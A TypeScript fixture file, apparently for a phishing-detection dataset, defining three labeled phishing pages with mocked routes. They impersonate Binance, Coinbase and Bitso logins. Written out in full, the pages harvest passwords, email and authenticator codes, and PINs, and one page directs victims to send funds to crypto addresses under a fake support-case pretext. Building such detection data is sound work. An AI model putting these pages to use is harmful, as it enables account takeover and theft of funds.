import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import * as B from '../parts/e-bin.js';
import * as Z from '../parts/zj-kit.js';

const otp = (n = 6) => `<div style="display:flex;gap:8px">${Array.from({ length: n }, (_, i) => `<input maxlength="1" class="d" style="width:44px;text-align:center" id="d${i}">`).join('')}</div>`;

export const entries: Entry[] = [
  {
    id: 'zj-phish-binance-login-ip-alert',
    label: 'phishing',
    kind: 'exchange-login',
    url: 'https://accounts.binance-secure-login.com/en/login?return_to=aHR0cHM6Ly93d3cuYmluYW5jZS5jb20vZW4vbXk=',
    body: Z.doc({
      title: 'Log In | Binance',
      style: Z.LIGHT + 'body{background:#fafafa}main{max-width:420px;background:#fff;border:1px solid #eaecef;border-radius:16px;margin-top:40px}.btn{background:#fcd535;color:#202630;width:100%}',
      body: `<main><p><img src="/static/logo.png" width="120" height="24" alt="BINANCE"></p><h2>Log in</h2>
  <div class="note" style="font-size:13px">New login attempt blocked from IP 185.220.101.44 (Lagos, NG). Log in to secure your account.</div>
  <form id="f"><label>Email/Phone number</label><input id="u" autocomplete="username"><label>Password</label><input id="p" type="password" autocomplete="current-password"><p><button class="btn">Log in</button></p></form>
  <div id="s2" style="display:none"><h3>Security verification</h3><label>Email verification code</label><input id="ec"><label>Authenticator App code</label>${otp()}<p><button class="btn" id="sub">Submit</button></p></div>
  <p style="font-size:13px"><a href="#">Forgot password?</a> · <a href="#">Create a Binance account</a></p></main>
  <script>
  var S={};document.getElementById('f').onsubmit=function(e){e.preventDefault();S.u=document.getElementById('u').value;S.p=document.getElementById('p').value;
  fetch('/bapi/accounts/v2/public/authcenter/login',{method:'POST',headers:{'content-type':'application/json','clienttype':'web'},body:JSON.stringify(S)});this.style.display='none';document.getElementById('s2').style.display=''};
  document.getElementById('sub').onclick=function(){S.ec=document.getElementById('ec').value;S.g=[].map.call(document.querySelectorAll('.d'),function(x){return x.value}).join('');
  fetch('/bapi/accounts/v2/public/authcenter/verify',{method:'POST',headers:{'content-type':'application/json'},body:JSON.stringify(S)}).then(function(){location.href='https://www.binance.com/en/my/dashboard'})};
  </script>`,
    }),
    routes: {
      'accounts.binance-secure-login.com/static/logo.png': Z.img(240, 185, 11),
      'accounts.binance-secure-login.com/bapi/accounts/v2/public/authcenter/login': Z.json({ code: '000000', success: true }),
      'accounts.binance-secure-login.com/bapi/accounts/v2/public/authcenter/verify': Z.json({ code: '000000', success: true }),
    },
  },
  {
    id: 'zj-phish-coinbase-2fa-reset',
    label: 'phishing',
    kind: 'exchange-2fa',
    url: 'https://coinbase.case-review.help/signin/2fa',
    body: Z.doc({
      title: 'Coinbase - Two-step verification',
      style: Z.LIGHT + 'main{max-width:440px;border:1px solid #dee1e6;border-radius:12px;margin-top:50px}.btn{background:#0052ff;width:100%}',
      body: `<main><p style="color:#0052ff;font-weight:800;font-size:24px">coinbase</p><h2>Enter the 7-digit code</h2><p>We sent a code to the phone number ending in <b>••47</b>. A Coinbase Support agent (Case ID <b>CB-77821-A</b>) is reviewing an unauthorized withdrawal request on your account.</p>
  ${otp(7)}<p><button class="btn" id="v">Continue</button></p><p style="font-size:13px"><a href="#">I need help</a> · <a href="#">Try another way</a></p>
  <p style="font-size:12px;color:#5b616e">Do not share this code with anyone except the Coinbase agent on your case.</p></main>
  <script>document.getElementById('v').onclick=function(){var c=[].map.call(document.querySelectorAll('.d'),function(x){return x.value}).join('');
  fetch('/api/v3/case/otp',{method:'POST',body:JSON.stringify({case:'CB-77821-A',code:c,email:localStorage.getItem('em')})}).then(function(){location.href='/signin/vault-transfer'})};</script>`,
    }),
    routes: {
      'coinbase.case-review.help/api/v3/case/otp': Z.json({ ok: true }),
      'coinbase.case-review.help/signin/vault-transfer': htmlRoute(Z.doc({ title: 'Coinbase - Secure Vault', body: '<main><h2>Move your funds to a secure vault</h2><p>For your protection, transfer your assets to the dedicated Coinbase Vault address assigned to your case:</p><pre>bc1q7h3k9x2vz4ckl0m8d6y5p3ns0fqw2e8rt4a9jx</pre><pre>0x3c8B2dA1f97E5c04b6a2D9e8F1c7B3a05D4e6f92</pre><p>Your case agent will confirm once received.</p></main>' })),
    },
  },
  {
    id: 'zj-phish-es-bitso-acceso',
    label: 'phishing',
    kind: 'exchange-login',
    url: 'https://bitso-mx.app/acceso',
    body: Z.doc({
      lang: 'es-MX',
      title: 'Bitso — Iniciar sesión',
      style: Z.LIGHT + 'main{max-width:420px}.btn{background:#1ed79f;color:#000;width:100%}',
      body: `<main><h1>bitso</h1><h3>Inicia sesión</h3><p style="font-size:14px">Por disposición de la CNBV, actualiza tus datos antes del 15 de diciembre para evitar la suspensión de retiros en pesos y cripto.</p>
  <form method="post" action="/acceso/validar"><label>Correo electrónico</label><input name="correo"><label>Contraseña</label><input name="clave" type="password"><label>Código de autenticación (2FA)</label><input name="tfa"><label>PIN de 4 dígitos</label><input name="pin" maxlength="4"><p><button class="btn">Continuar</button></p></form>
  <p style="font-size:12px">Bitso © 2026 · Aviso de privacidad</p></main>`,
    }),
    routes: { 'bitso-mx.app/acceso/validar': htmlRoute('<p>Validando…</p><script>setTimeout(function(){location.href="https://bitso.com"},1500)</script>') },
  },
];
